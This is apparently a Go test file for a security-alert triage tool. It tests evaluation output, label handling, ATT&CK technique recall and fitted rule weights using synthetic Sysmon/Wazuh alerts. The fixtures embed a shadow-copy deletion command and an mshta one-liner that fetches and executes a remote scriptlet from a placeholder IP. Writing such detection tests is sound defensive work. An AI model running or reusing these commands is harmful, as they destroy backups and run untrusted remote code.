package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/aluskort/aluskort/internal/result"
)

const evalFixture = "../../internal/eval/testdata/wazuh"

func TestEvalTriageFitsItsSchema(t *testing.T) {
	code, out, errs := aluskort(t, "", "eval", "triage", "--labels", evalFixture+".csv", "--controls", "--json", evalFixture+".jsonl")
	if code != exitDone {
		t.Fatalf("exit %d: %s", code, errs)
	}
	schema := schemaOf(t, "eval-triage.schema.json")
	doc, err := jsonschema.UnmarshalJSON(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	if err := schema.Validate(doc); err != nil {
		t.Error(err)
	}
	var rep struct {
		N        int
		Controls map[string]map[string]any
	}
	if err := json.Unmarshal([]byte(out), &rep, json.MatchCaseInsensitiveNames(true)); err != nil {
		t.Fatal(err)
	}
	if rep.N != 18 || len(rep.Controls) != 5 {
		t.Errorf("%d alerts, %d controls", rep.N, len(rep.Controls))
	}
	for name, c := range rep.Controls {
		if err := schema.Validate(c); err != nil {
			t.Errorf("control %s has another shape: %v", name, err)
		}
		if _, ok := c["changed"].(float64); !ok {
			t.Errorf("control %s does not say how many verdicts changed", name)
		}
	}
}

// An attack that is called benign is a finding: here the label of a harmless alert is turned.
func TestEvalTriageEndsWithFindingsWhenSomethingIsMissed(t *testing.T) {
	b, err := os.ReadFile(evalFixture + ".csv")
	if err != nil {
		t.Fatal(err)
	}
	labels := filepath.Join(t.TempDir(), "labels.csv")
	if err := os.WriteFile(labels, bytes.ReplaceAll(b, []byte(",FP,"), []byte(",TP,")), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, errs := aluskort(t, "", "eval", "triage", "--labels", labels, "--verbose", evalFixture+".jsonl")
	if code != exitFindings || !strings.Contains(out, "MISSED: positives called benign (") {
		t.Errorf("exit %d, %s\n%s", code, errs, out)
	}
}

func TestEvalRefusesWhatItCannotUse(t *testing.T) {
	empty := filepath.Join(t.TempDir(), "empty")
	if err := os.WriteFile(empty, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name, says string
		code       int
		args       []string
	}{
		{"no labels", "labels", exitUsage, []string{"eval", "triage", evalFixture + ".jsonl"}},
		{"labels that are none", "line 1: not CSV", exitFailed, []string{"eval", "triage", "--labels", evalFixture + ".jsonl", evalFixture + ".jsonl"}},
		{"a file that is not there", "no such file", exitFailed, []string{"eval", "triage", "--labels", evalFixture + ".csv", "nowhere.jsonl"}},
		{"no alerts", "no alerts", exitFailed, []string{"eval", "triage", "--labels", evalFixture + ".csv", empty}},
		{"a state directory", "leave --state out", exitUsage, []string{"--state", t.TempDir(), "eval", "triage", "--labels", evalFixture + ".csv", evalFixture + ".jsonl"}},
		{"cases without events", "line 1", exitFailed, []string{"eval", "techniques", evalFixture + ".jsonl"}},
	} {
		code, _, errs := aluskort(t, "", c.args...)
		if code != c.code || !strings.Contains(errs, c.says) {
			t.Errorf("%s: exit %d, %q; want %d and %q", c.name, code, errs, c.code, c.says)
		}
	}
}

func TestEvalTechniques(t *testing.T) {
	event := `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-07","TimeCreated":{"#attributes":{"SystemTime":"2026-03-04T10:00:00Z"}}},` +
		`"EventData":{"Image":"C:\\Windows\\System32\\vssadmin.exe","OriginalFileName":"VSSADMIN.EXE","CommandLine":"vssadmin delete shadows /all /quiet","User":"EXAMPLE\\ada","ParentImage":"C:\\Windows\\System32\\cmd.exe"}}}`
	file := filepath.Join(t.TempDir(), "cases.jsonl")
	line := `{"sigma_id":"a","title":"shadow copies deleted","attack":["attack.impact","attack.t1490"],"events":[` + event + "]}\n"
	if err := os.WriteFile(file, []byte(line), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, errs := aluskort(t, "", "eval", "techniques", "--verbose", file)
	if code != exitDone || !strings.Contains(out, "recall, exact") || !strings.Contains(out, "1 of 1") || !strings.Contains(out, "ids outside the taxonomy: 0") {
		t.Errorf("exit %d, %s\n%s", code, errs, out)
	}
}

// archives are alerts about archives in a temporary folder, mostly harmless, and about scripts
// run through a loader, which are attacks.
func archives(t *testing.T) (alerts, labels string) {
	t.Helper()
	const form = `{"_id":"%[1]s","_source":{"agent":{"name":"ws-%[2]d","id":"%03[2]d"},"manager":{"name":"mgr"},"data":{"win":{"eventdata":{%[3]s,"user":"EXAMPLE\\\\u%[2]d",` +
		`"processGuid":"{5f1d2c7a-90b1-6923-1402-%012[2]d}","processId":"%[2]d","utcTime":"2026-11-03 08:20:01.100"},"system":{"channel":"Microsoft-Windows-Sysmon/Operational",` +
		`"providerName":"Microsoft-Windows-Sysmon","computer":"ws-%[2]d.example.com","eventID":"%[4]s","systemTime":"2026-11-03T08:20:01.1000000Z"}}},` +
		`"rule":{"level":10,"description":"%[5]s","groups":["sysmon"],"id":"9%[4]s"},"location":"EventChannel","decoder":{"name":"windows_eventchannel"},` +
		`"id":"4.%[1]s","timestamp":"2026-11-03T08:20:01.520+0000"}}` + "\n"
	var a, l strings.Builder
	l.WriteString("id,label\n")
	for i := range 90 {
		event, what, id, label := `"image":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","targetFilename":"C:\\\\Users\\\\u\\\\AppData\\\\Local\\\\Temp\\\\out.zip"`,
			"Archive by a script host", "11", "FP"
		if i%3 == 0 {
			event, what, id, label = `"image":"C:\\\\Windows\\\\System32\\\\mshta.exe","commandLine":"mshta.exe javascript:a=GetObject('script:http://203.0.113.9/x.sct').Exec();close()","parentImage":"C:\\\\Windows\\\\System32\\\\cmd.exe"`,
				"Script through a loader", "1", "TP"
		}
		fmt.Fprintf(&a, form, fmt.Sprint("case", i), 100+i, event, id, what)
		fmt.Fprintf(&l, "case%d,%s\n", i, label)
	}
	dir := t.TempDir()
	alerts, labels = filepath.Join(dir, "alerts.jsonl"), filepath.Join(dir, "labels.csv")
	for path, text := range map[string]string{alerts: a.String(), labels: l.String()} {
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return alerts, labels
}

// From labels to verdicts: weights are fitted, written, named in the configuration, and the
// evidence then says that they were fitted.
func TestEvalFitIsUsedByVerdicts(t *testing.T) {
	alerts, labels := archives(t)
	dir := t.TempDir()
	out, conf := filepath.Join(dir, "weights.yaml"), filepath.Join(dir, "aluskort.yaml")
	code, text, errs := aluskort(t, "", "eval", "fit", "--labels", labels, "--out", out, alerts)
	if code != exitDone || !strings.Contains(text, "Archive written by a shell") {
		t.Fatalf("exit %d, %s\n%s", code, errs, text)
	}
	if err := os.WriteFile(conf, []byte("reason:\n  weights: "+out+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	weights := func(args ...string) (fitted, stated float64) {
		t.Helper()
		code, text, errs := aluskort(t, "", append(args, "investigate", "--json", alerts)...)
		if code != exitDone {
			t.Fatalf("exit %d: %s", code, errs)
		}
		for line := range strings.Lines(text) {
			var r result.Result
			if err := json.Unmarshal([]byte(line), &r); err != nil {
				t.Fatal(err)
			}
			for _, e := range r.Investigation.Evidence {
				if e.Kind == "collection.archive" && strings.HasPrefix(e.From, "fitted, n 60") {
					fitted = e.Alone
				} else if e.Kind == "collection.archive" {
					stated = e.Alone
				}
			}
		}
		return fitted, stated
	}
	if fitted, stated := weights(); fitted != 0 || stated != 1.5 {
		t.Errorf("without a table: fitted %v, stated %v", fitted, stated)
	}
	if fitted, stated := weights("--config", conf); fitted <= 0 || fitted >= 1.5 || stated != 0 {
		t.Errorf("with a table: fitted %v, stated %v", fitted, stated)
	}
	if code, text, errs := aluskort(t, "", "--config", conf, "eval", "fit", "--labels", labels, alerts); code != exitDone {
		t.Errorf("a second fit does not start from what ships: exit %d, %s\n%s", code, errs, text)
	}
	if err := os.WriteFile(out, []byte("weights: [{rule: x, shipped: 3, weight: -3, n: 50, low: -4, high: -2}]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if code, _, errs := aluskort(t, "", "--config", conf, "investigate", alerts); code != exitFailed || !strings.Contains(errs, "another sign") {
		t.Errorf("a table outside its bounds: exit %d, %s", code, errs)
	}
}

func TestEvalFitWritesNothingThatItRefuses(t *testing.T) {
	out := filepath.Join(t.TempDir(), "weights.yaml")
	code, text, errs := aluskort(t, "", "eval", "fit", "--labels", evalFixture+".csv", "--out", out, evalFixture+".jsonl")
	if code != exitFindings || !strings.Contains(text, "Refused: no rule has 20 labels") || exists(out) {
		t.Errorf("exit %d, written %v, %s\n%s", code, exists(out), errs, text)
	}
}
